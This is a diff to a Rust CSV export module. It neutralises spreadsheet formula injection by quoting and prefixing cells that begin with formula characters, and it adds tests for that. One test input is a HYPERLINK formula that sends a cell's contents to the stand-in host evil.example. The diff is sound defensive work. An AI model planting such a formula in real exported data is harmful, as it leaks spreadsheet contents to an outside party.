@@ -1,5 +1,11 @@
 //! RFC 4180 CSV: a header row, CRLF line ends, fields quoted when they hold a comma, a
 //! quote or a line break; UTF-8, with a byte-order mark on request.
+//!
+//! No cell can run as a spreadsheet formula (OWASP, "CSV Injection"): a field that
+//! begins with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a single
+//! quote and written quoted, so a spreadsheet program shows it as text. The JSON and
+//! xlsx exports keep such values as they are (an xlsx cell written as a string is never
+//! evaluated).
 
 use super::rows::ExportRow;
 
@@ -81,8 +87,13 @@ fn line(out: &mut String, fields: impl Iterator<Item = String>) {
     out.push_str("\r\n");
 }
 
+/// The characters a spreadsheet program reads as the start of a formula.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
 fn quote(field: &str) -> String {
-    if field.contains([',', '"', '\r', '\n']) {
+    if field.starts_with(FORMULA_STARTS) {
+        format!("\"'{}\"", field.replace('"', "\"\""))
+    } else if field.contains([',', '"', '\r', '\n']) {
         format!("\"{}\"", field.replace('"', "\"\""))
     } else {
         field.to_string()
@@ -100,6 +111,23 @@ mod tests {
         assert_eq!(quote("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(quote("two\nlines"), "\"two\nlines\"");
         assert_eq!(quote("龙井茶"), "龙井茶");
+    }
+
+    #[test]
+    fn a_cell_never_starts_a_formula() {
+        assert_eq!(
+            quote("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""
+        );
+        assert_eq!(quote("+1"), "\"'+1\"");
+        assert_eq!(quote("-2+3"), "\"'-2+3\"");
+        assert_eq!(quote("@SUM(A1)"), "\"'@SUM(A1)\"");
+        assert_eq!(quote("\t=1"), "\"'\t=1\"");
+        assert_eq!(quote("\r=1"), "\"'\r=1\"");
+        // Only the first character counts.
+        assert_eq!(quote("a=b"), "a=b");
+        assert_eq!(quote("co-exists"), "co-exists");
+        assert_eq!(quote(""), "");
     }
 
     #[test]
